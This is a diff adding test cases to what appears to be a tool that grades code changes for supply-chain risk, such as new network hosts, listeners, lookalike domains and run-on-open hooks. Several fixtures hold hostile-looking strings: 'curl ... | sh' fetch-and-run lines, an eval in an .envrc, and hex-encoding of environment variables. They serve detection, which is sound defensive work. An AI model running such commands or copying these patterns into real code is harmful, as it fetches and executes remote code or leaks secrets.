@@ -759,6 +759,16 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
       tier: "nothing",
     },
     {
+      what: "one that encodes what another function read and did not encode",
+      changes: [],
+      known: {
+        changedFunctions: [changed(), changed({ isNew: true, function: `${m}.pack` })],
+        oldNames: { [`${m}.run`]: ["os.Environ"] },
+        newNames: { [`${m}.pack`]: ["os.Environ", "encoding/hex.EncodeToString"] },
+      },
+      tier: "review",
+    },
+    {
       what: "one that was moved",
       changes: [],
       known: {
@@ -1352,6 +1362,25 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
       changes: [],
       known: { newTexts: [newTexts(["set -e\ncurl -s https://example.test/c | sh &\nwait"])] },
       tier: "review",
+    },
+    {
+      what: "the same, which is written to a file",
+      changes: [
+        call("os.WriteFile", ["FILES/WRITE"], {
+          arguments: constants("p", "curl -s https://example.test/c | sh >/dev/null 2>&1"),
+        }),
+      ],
+      known: { newTexts: [newTexts(["curl -s https://example.test/c | sh >/dev/null 2>&1"])] },
+      tier: "review",
+    },
+    {
+      what: "the same, which the old version had elsewhere",
+      changes: [],
+      known: {
+        oldTexts: ["set -e\ncurl -s https://example.test/c | sh >/dev/null 2>&1\n"],
+        newTexts: [newTexts(["curl -s https://example.test/c | sh >/dev/null 2>&1"])],
+      },
+      tier: "nothing",
     },
     {
       what: "a line that is shown to whoever installs something, and one that runs in the background what is there",
@@ -2185,6 +2214,11 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
       tier: "review",
     },
     {
+      what: "what such a tool fetches and runs",
+      changes: [signal("run-on-open", ".envrc", 'eval "$(nix run tool)"')],
+      tier: "review",
+    },
+    {
       what: "what direnv fetches by its hash",
       changes: [signal("run-on-open", ".envrc", 'source_url "https://example.test/a" "sha256-AAAA"')],
       tier: "inform",
@@ -2284,6 +2318,27 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
       says: /`Open` now starts a goroutine that listens for connections/u,
     },
     {
+      what: "one that listens by calls of the system, at a port of its own",
+      changes: [
+        listener,
+        reaches("exported-function", "NETWORK/LISTEN"),
+        call("syscall.Bind", ["SYSTEM_CALLS", "NETWORK/LISTEN"]),
+        call("syscall.Accept", ["SYSTEM_CALLS", "NETWORK/LISTEN"]),
+      ],
+      known: { had: ["NETWORK"], ways: { existing: [way(`${m}.Open`)] } },
+      tier: "review",
+    },
+    {
+      what: "one that takes connections of what somebody else listens with",
+      changes: [
+        listener,
+        reaches("exported-function", "NETWORK/LISTEN"),
+        call("net/http.Serve", ["NETWORK/LISTEN"]),
+      ],
+      known: { had: ["NETWORK"], ways: { existing: [way(`${m}.Open`)] } },
+      tier: "inform",
+    },
+    {
       what: "one that listens where callers say",
       changes: [
         listener,
@@ -2335,6 +2390,37 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
       tier: "review",
     },
     {
+      what: "a call that goes besides to what may be taken for where it still goes, and to another host",
+      changes: [
+        call("net/http.Get", ["NETWORK/DIAL"], {
+          change: "changed",
+          arguments: constants("https://cn.examplecloud.test/v1", "https://eu.examplecloud.example/v1"),
+          oldArguments: constants("https://eu.examplecloud.example/v1"),
+        }),
+      ],
+      known: { ways: { existing: [way(`${m}.Open`)] } },
+      tier: "inform",
+    },
+    {
+      what: "a call that goes to a new host, and to what may be taken for where it went",
+      changes: [
+        call("net/http.Get", ["NETWORK/DIAL"], {
+          change: "changed",
+          arguments: constants("https://cdn.example.test/v1", "https://eu.examplecloud.test/v1"),
+          oldArguments: constants("https://eu.examplecloud.example/v1"),
+        }),
+      ],
+      known: { ways: { existing: [way(`${m}.Open`)] } },
+      tier: "review",
+      says: /: https:\/\/eu\.examplecloud\.test\/v1$/u,
+    },
+    {
+      what: "a call that listens",
+      changes: [call("net.Listen", ["NETWORK/LISTEN"], { arguments: constants("tcp", "0.0.0.0:8080") })],
+      known: { ways: { existing: [way(`${m}.Open`)] } },
+      tier: "nothing",
+    },
+    {
       what: "a value that is no address",
       changes: [call("net/http.NewRequest", ["NETWORK/DIAL"], { arguments: constants("GET", "path") })],
       known: { ways: { existing: [way(`${m}.Open`)] } },
@@ -2358,6 +2444,82 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
       changes: [],
       known: { newTexts: [newTexts(["https://exampleclaud.test/"], ["https://examplecloud.test/"])] },
       tier: "review",
+    },
+    {
+      what: "the same, of which another function and a call elsewhere have another page",
+      changes: [
+        call("net/http.Get", ["NETWORK/DIAL"], {
+          arguments: constants("https://api.examplecloud.test/ping"),
+        }),
+      ],
+      known: {
+        had: ["NETWORK/DIAL"],
+        goneTexts: ["https://api.examplecloud.example/v1"],
+        newTexts: [
+          newTexts(["https://api.examplecloud.test/help"]),
+          newTexts(["https://api.examplecloud.test/v1"], ["https://api.examplecloud.example/v1"]),
+        ],
+      },
+      tier: "review",
+      says: /where it had https:/u,
+    },
+    {
+      what: "new code that has what may be taken for what other code had",
+      changes: [],
+      known: {
+        goneTexts: ["https://api.examplecloud.example/v1"],
+        newTexts: [newTexts(["https://api.examplecloud.test/v1"])],
+      },
+      tier: "review",
+      says: /`New` now has https:\/\/api\.examplecloud\.test\/v1, and no code has https:/u,
+    },
+    {
+      what: "the same, with a name of which the known one begins with it",
+      changes: [],
+      known: {
+        oldTexts: ["https://api.examplecloud.test/v1"],
+        newTexts: [newTexts(["https://api.examplecloud.te/v1"], ["https://api.examplecloud.test/v1"])],
+      },
+      tier: "review",
+    },
+    {
+      what: "the same, with the known host as the name of who logs in",
+      changes: [],
+      known: {
+        newTexts: [
+          newTexts(["https://api.examplecloud.test@a.test/v1"], ["https://api.examplecloud.test/v1"]),
+        ],
+      },
+      tier: "review",
+    },
+    {
+      what: "the same, where anybody may have a name",
+      changes: [],
+      known: {
+        newTexts: [newTexts(["https://exampleclaud.github.io/"], ["https://examplecloud.github.io/"])],
+      },
+      tier: "review",
+    },
+    {
+      what: "what a call has that does not reach out",
+      changes: [
+        call("os.WriteFile", ["FILES/WRITE"], { arguments: constants("p", "http://192.0.2.7:8080/") }),
+      ],
+      known: { had: ["NETWORK/DIAL"], newTexts: [newTexts(["http://192.0.2.7:8080/"])] },
+      tier: "review",
+    },
+    {
+      what: "what may be taken for it, of the same owner, of nobody, and of a name that many have",
+      changes: [],
+      known: {
+        newTexts: [
+          newTexts(["https://raw.githubusercontent.com/a/b"], ["https://github.com/a/raw/b"]),
+          newTexts(["https://www.example.org/feed"], ["https://www.example.com/feed"]),
+          newTexts(["https://status.other.test/a"], ["https://status.foo.io/a"]),
+          newTexts(["https://service.default.svc.cluster.local/"], ["https://service.default.svc/"]),
+        ],
+      },
+      tier: "nothing",
     },
     {
       what: "another part of the same domain",
